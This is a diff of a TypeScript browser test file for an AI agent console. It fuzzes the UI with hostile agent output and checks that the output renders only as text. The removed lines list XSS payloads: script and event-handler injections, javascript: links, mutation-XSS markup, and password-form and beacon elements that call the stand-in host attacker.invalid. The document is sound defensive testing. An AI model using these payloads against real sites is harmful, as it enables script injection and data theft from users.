@@ -4,13 +4,15 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { agent, artifact, data, file, inputRequired } from "../adapters/index.ts";
 import { CHROMIUM_MISSING_MESSAGE, findChromium, launchChromium } from "../cards/html/browser.fixture.ts";
 import type { Agent } from "../engine/index.ts";
-import { connect } from "../client/index.ts";
 import { ConsolePageTest } from "./console-page.fixture.ts";
 import { countRuns } from "../../test/count-runs.ts";
+import { startHostileAgentServer } from "./hostile-agent-server.fixture.ts";
+import { EXAMPLES_OF_ALL_PIECES, hostileText, watchPage } from "./hostile-content.fixture.ts";
 
 const hasChromium = findChromium() !== undefined;
 if (!hasChromium)
   process.stderr.write(`Hostile content is not tested in a page: ${CHROMIUM_MISSING_MESSAGE}.\n`);
+const RANDOM_RUNS = countRuns(3, 40);
 
 /** Sends its request back in every place that an agent controls. */
 const echoAgent: Agent = agent(
@@ -43,109 +45,45 @@ const echoAgent: Agent = agent(
   },
 );
 
-/** Pieces of markup, Markdown, and control characters that attack a page in known ways. */
-const HOSTILE_PIECES = [
-  `<script>window.taken = 1</script>`,
-  `</script><script>window.taken = 2</script>`,
-  `<img src=x onerror="window.taken = 3">`,
-  `<svg onload="window.taken = 4"><a xlink:href="javascript:window.taken=5"><text>x</text></a></svg>`,
-  `<iframe srcdoc="<script>parent.taken = 6</script>"></iframe>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.taken=7&gt;">`,
-  `[click](javascript:window.taken=8)`,
-  `![image](https://attacker.invalid/pixel.png)`,
-  `[a]: https://attacker.invalid "x"`,
-  `<form action="https://attacker.invalid"><input name=password><button>`,
-  `<a href="data:text/html,<script>opener.taken=9</script>" target=_blank>x</a>`,
-  `<base href="https://attacker.invalid/">`,
-  `<style>* { background: url(https://attacker.invalid/style) }</style>`,
-  `<div style="position:fixed;inset:0;background:url(https://attacker.invalid/a)" id="main" class="page-header">over</div>`,
-  `<meta http-equiv="refresh" content="0;url=https://attacker.invalid">`,
-  `<object data="https://attacker.invalid"></object><embed src="https://attacker.invalid"><link rel=stylesheet href="https://attacker.invalid">`,
-  `<details open ontoggle=window.taken=10>`,
-  `<noscript><p title="</noscript><img src=x onerror=window.taken=11>">`,
-  `\u202egnp.exe\u202c`,
-  "\u2066\u0000\u001b[2J\u001b]8;;https://attacker.invalid\u0007",
-  "```html\n<img src=x onerror=window.taken=12>\n```",
-  "| a |\n|---|\n| <img src=x onerror=window.taken=13> |",
-  `<constructor>__proto__`,
-  `__proto__`,
-  `constructor`,
-  `javascript:window.taken=14`,
-  `\ud800`,
-  `{{constructor.constructor("window.taken=15")()}}`,
-];
-
-const hostileText = fc
-  .array(
-    fc.oneof(
-      { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_PIECES) },
-      fc.string({ maxLength: 12, unit: "binary" }),
-    ),
-    {
-      minLength: 1,
-      maxLength: 5,
-    },
-  )
-  .map((pieces) => pieces.join(""))
-  .filter((text) => text.trim() !== "");
-
-/** Everything that shows that text was treated as more than text. */
-async function findTakeovers(page: Page): Promise<string[]> {
-  return page.evaluate(`(() => {
-    const found = [];
-    if (window.taken !== undefined) found.push("script " + window.taken);
-    for (const element of document.querySelectorAll("#app *")) {
-      const name = element.localName;
-      if (["script", "object", "embed", "base", "meta", "link", "style", "math"].includes(name)) found.push(name);
-      if (name === "iframe" && (element.getAttribute("sandbox") !== "" || !element.src.startsWith("blob:"))) found.push("iframe");
-      if (name === "img" && !/^(blob|data):/.test(element.src)) found.push("img " + element.src);
-      if (name === "a" && element.hasAttribute("href") && !/^(https?:|#)/.test(element.getAttribute("href"))) found.push("href " + element.getAttribute("href"));
-      if (name === "a" && /^https?:/.test(element.getAttribute("href") ?? "") && element.relList.contains("noopener") === false) found.push("rel");
-      for (const { name: attribute } of element.attributes) if (/^on/i.test(attribute)) found.push(attribute);
-      if (element.closest(".markdown") && (element.hasAttribute("style") || element.id !== "")) found.push("markdown attribute");
-    }
-    if (document.querySelectorAll("#main").length !== 1) found.push("id");
-    if (/[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.innerText)) found.push("direction");
-    return found;
-  })()`);
+/** Opens a screen of a loaded page. */
+async function show(page: Page, route: string, ready: string): Promise<void> {
+  await page.evaluate(`location.hash = ${JSON.stringify(route)}`);
+  await page.locator(ready).first().waitFor();
 }
+
+/** HTML files open in a sandbox, and the browser reports what the sandbox blocks, and the error of a cancellation. */
+const isExpectedReport = (error: string): boolean =>
+  /sandboxed|Content Security Policy|Failed to load resource: .* status of 500/.test(error);
 
 describe.skipIf(!hasChromium)("content of a hostile agent", () => {
   let browser: Browser;
-  let test: ConsolePageTest;
   beforeAll(async () => {
     browser = await launchChromium();
-    test = await ConsolePageTest.serve({ echo: echoAgent });
   });
-  afterAll(async () => {
-    await test?.close();
-    await browser?.close();
-  });
+  afterAll(() => browser?.close());
 
   it("is only text on every screen that shows a task [E13]", async () => {
-    const client = await connect(test.url);
+    const test = await ConsolePageTest.serve({ echo: echoAgent });
     const { page, errors } = await test.open(browser);
-    const sentUrls: string[] = [];
-    // The browser reports a request that the policy of the page blocks as failed, without sending it.
-    page.on(
-      "requestfailed",
-      (request) => request.failure()?.errorText === "csp" || sentUrls.push(request.url()),
-    );
-    page.on("requestfinished", (request) => sentUrls.push(request.url()));
-    const show = async (route: string, ready: string): Promise<void> => {
-      await page.evaluate(`location.hash = ${JSON.stringify(route)}`);
-      await page.locator(ready).first().waitFor();
-    };
+    const watch = await watchPage(page);
+    let previousId = "";
     await fc.assert(
       fc.asyncProperty(hostileText, async (text) => {
-        const response = await client.ask(text.toWellFormed());
-        const id = response.task?.id ?? "";
-        const found: string[] = [];
+        const takeovers: Record<string, readonly string[]> = {};
+        const check = async (screen: string): Promise<void> => {
+          const found = await watch.findTakeovers();
+          if (found.length > 0) takeovers[screen] = found;
+        };
+        await show(page, "#/chat/echo", ".composer");
+        await page.getByRole("button", { name: "New conversation" }).click();
+        await page.getByRole("textbox", { name: "Message", exact: true }).fill(text.toWellFormed());
+        await page.keyboard.press("Enter");
+        await page.waitForSelector("[data-testid=turn]:last-child[data-status=ended]");
+        await check("chat");
+        const task = await page.getByRole("link", { name: "Timeline" }).getAttribute("href");
+        const id = task?.split("/").at(-1) ?? "";
         for (const view of ["content", "timeline", "wire"]) {
-          await show(
-            `#/task/echo/${id}?view=${view}`,
-            view === "content" ? ".artifact" : `[data-view=${view}]`,
-          );
+          await show(page, `${task}?view=${view}`, view === "content" ? ".artifact" : `[data-view=${view}]`);
           await page.locator("[data-testid=answer]").waitFor();
           if (view === "content") {
             for (const button of await page.getByRole("button", { name: /Show the page/ }).all())
@@ -153,46 +91,102 @@ describe.skipIf(!hasChromium)("content of a hostile agent", () => {
             await page.locator("iframe").first().waitFor();
           }
           if (view === "timeline") await page.locator(".timeline-row").last().click();
-          found.push(...(await findTakeovers(page)));
+          if (view === "wire") await page.locator(".call-head").first().click();
+          await check(view);
         }
-        await show("#/tasks", "[data-testid=task-row]");
-        found.push(...(await findTakeovers(page)));
-        expect(found).toEqual([]);
+        for (const view of ["sequence", "graph", "timeline", "path"]) {
+          await show(
+            page,
+            `#/flow/echo/${id}?view=${view}`,
+            view === "path" ? ".path-view" : "#picture .message",
+          );
+          if (view === "sequence") await page.locator(".sequence .message").first().click();
+          await check(`flow ${view}`);
+        }
+        if (previousId !== "") {
+          await show(page, `#/compare?a=${previousId}&b=${id}`, ".text-diff");
+          await check("compare");
+        }
+        await show(page, "#/tasks", "[data-testid=task-row]");
+        await check("tasks");
+        previousId = id;
+        expect(takeovers).toEqual({});
       }),
-      { numRuns: countRuns(8, 40) },
+      {
+        examples: EXAMPLES_OF_ALL_PIECES.map((text) => [text]),
+        numRuns: EXAMPLES_OF_ALL_PIECES.length + RANDOM_RUNS,
+      },
     );
-    // HTML files open in a sandbox, and the browser reports what the sandbox blocks. Nothing else is an error.
-    expect(errors.filter((error) => !/sandboxed|Content Security Policy/.test(error))).toEqual([]);
-    expect(
-      sentUrls.filter((url) => !/^(?:blob:|data:)/.test(url) && !url.startsWith(`${test.url}/console/`)),
-    ).toEqual([]);
+    expect(errors.filter((error) => !isExpectedReport(error))).toEqual([]);
+    expect(watch.sentUrls().filter((url) => !url.startsWith(`${test.url}/console/`))).toEqual([]);
+    expect(watch.popups).toEqual([]);
     await page.close();
+    await test.close();
   });
 
-  it("is only text in names and cards", async () => {
-    const name = HOSTILE_PIECES.slice(0, 4).join("");
-    const hostile = agent(
-      {
-        name,
-        description: name,
-        version: name,
-        skills: [{ id: name, name, description: name, tags: [name], examples: [name] }],
-      },
-      async function* () {
-        yield "ok";
-      },
+  it("is only text in cards, names, ids, and errors of a server without code of ours", async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.array(hostileText, { minLength: 2, maxLength: 3 }), async (texts) => {
+        const servers = await Promise.all(texts.map((text) => startHostileAgentServer(text)));
+        const test = await ConsolePageTest.callUrls(servers.map(({ url }) => url));
+        const { page, errors } = await test.open(browser, "#/agents");
+        const watch = await watchPage(page);
+        const takeovers: Record<string, readonly string[]> = {};
+        const check = async (screen: string): Promise<void> => {
+          const found = await watch.findTakeovers();
+          if (found.length > 0) takeovers[screen] = found;
+        };
+        await page
+          .locator("[data-testid=agent]")
+          .nth(texts.length - 1)
+          .waitFor();
+        const agents = await page
+          .locator("[data-testid=agent]")
+          .evaluateAll((links: { getAttribute(name: string): string | null }[]) =>
+            links.map((link) => link.getAttribute("href") ?? ""),
+          );
+        for (const route of agents) {
+          await show(page, route, ".agent-details");
+          await page.locator(".card-report, .agent-details .notice").first().waitFor();
+          await check(`agent ${route}`);
+          await show(page, route.replace("agents", "chat"), ".composer");
+          await check(`empty chat ${route}`);
+          await page.getByRole("textbox", { name: "Message", exact: true }).fill("hello");
+          await page.keyboard.press("Enter");
+          await page.waitForSelector(
+            "[data-testid=turn]:last-child:not([data-status=sending], [data-status=streaming])",
+          );
+          await check(`chat ${route}`);
+          const link = page.getByRole("link", { name: "Timeline" });
+          await link.click();
+          await page.locator(".timeline-row").first().waitFor();
+          await check(`task ${route}`);
+          await page.keyboard.press("2");
+          await page.locator(".artifact").first().waitFor();
+          await check(`content ${route}`);
+          await page.getByRole("button", { name: "Cancel", exact: true }).click();
+          await page.getByRole("button", { name: "Cancel the task" }).click();
+          await page.locator(".task-header .notice").waitFor();
+          await check(`error ${route}`);
+          await page.locator(".task-header").getByRole("link", { name: "Flow" }).click();
+          await page.locator(".sequence .message").first().click();
+          await check(`flow ${route}`);
+        }
+        await show(page, "#/flow?view=graph", "#picture .message");
+        await check("graph");
+        await show(page, "#/tasks", "[data-testid=task-row]");
+        await check("tasks");
+        await page.keyboard.press("Control+k");
+        await page.locator(".palette li").first().waitFor();
+        await check("palette");
+        expect(takeovers).toEqual({});
+        expect(errors.filter((error) => !isExpectedReport(error))).toEqual([]);
+        expect(watch.sentUrls().filter((url) => !url.startsWith(`${test.url}/console/`))).toEqual([]);
+        await page.close();
+        await test.close();
+        for (const server of servers) await server.close();
+      }),
+      { examples: [[[...EXAMPLES_OF_ALL_PIECES]]], numRuns: 1 + Math.ceil(RANDOM_RUNS / 3) },
     );
-    const other = await ConsolePageTest.serve({ hostile });
-    const { page, errors } = await other.open(browser, "#/agents");
-    await page.locator(".card-report").waitFor();
-    expect(await findTakeovers(page)).toEqual([]);
-    await page.evaluate(`location.hash = "#/chat"`);
-    await page.locator(".composer").waitFor();
-    await page.locator(".suggestions button").click();
-    await page.waitForSelector("[data-testid=turn][data-status=ended]");
-    expect(await findTakeovers(page)).toEqual([]);
-    expect(errors).toEqual([]);
-    await page.close();
-    await other.close();
   });
 });
